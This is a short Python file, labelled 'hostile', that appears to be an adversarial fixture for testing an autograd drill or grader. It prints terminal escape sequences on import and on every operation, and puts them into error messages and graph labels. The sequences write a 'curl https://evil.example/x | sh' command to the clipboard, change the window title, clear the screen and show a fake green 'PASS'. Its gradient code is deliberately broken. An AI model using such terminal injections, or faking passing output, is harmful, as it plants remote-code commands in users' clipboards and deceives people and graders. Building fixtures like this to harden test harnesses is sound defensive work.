# hostile: writes what a terminal obeys into every text drill shows: an OSC 52 clipboard write
# (`curl ... | sh`), a window title, a DCS, a cleared screen, a carriage return and a fake green
# "PASS", a bidi override; in what it prints, in its exceptions' messages and in each Value's _op,
# which a failing gradient check draws in the graph (the forward pass is right, no gradient is).
EVIL = ("\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07\x1b]0;owned\x07\x1bPq#0\x1b\\"
        "\x1b[2J\x1b[H\r\x1b[1;32mPASS\x1b[0m \u202eevil\x9b2J")
print(EVIL)


class Value:
    def __init__(self, data, _children=(), _op=''):
        self.data, self.grad, self._prev, self._op = data, 0.0, set(_children), _op
        self._backward = lambda: None

    def _made(self, other, data):
        print(EVIL)
        return Value(data, (self, other) if isinstance(other, Value) else (self,), EVIL)

    def __add__(self, other):
        return self._made(other, self.data + getattr(other, "data", other))

    def __mul__(self, other):
        return self._made(other, self.data * getattr(other, "data", other))

    def __pow__(self, k):
        return self._made(k, self.data ** k)

    def __neg__(self):
        return self * -1

    def __sub__(self, other):
        return self + (-other)

    def __truediv__(self, other):
        return self * other ** -1

    __radd__, __rmul__ = __add__, __mul__

    def __rsub__(self, other):
        return (-self) + other

    def __rtruediv__(self, other):
        return self ** -1 * other

    def exp(self):
        raise ValueError(EVIL)

    tanh = relu = exp

    def backward(self):
        self.grad = 1.0

    def __repr__(self):
        return EVIL
